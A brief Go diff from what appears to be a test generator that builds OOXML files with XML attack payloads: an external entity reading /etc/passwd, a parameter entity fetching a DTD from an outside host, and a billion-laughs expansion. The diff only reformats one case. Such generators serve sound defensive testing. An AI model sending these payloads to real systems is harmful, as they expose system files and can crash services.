@@ -48,7 +48,7 @@ func ooxml(r *rand.Rand) (string, []byte, bool) {
 	case 4:
 		before, document = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"
 	case 5:
-		before, document = `<!DOCTYPE x [<!ENTITY % e SYSTEM "`+Outside+`.dtd"> %e;]>`, document
+		before = `<!DOCTYPE x [<!ENTITY % e SYSTEM "` + Outside + `.dtd"> %e;]>`
 	case 6:
 		before, document = laughs(), "<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>"
 	case 7:
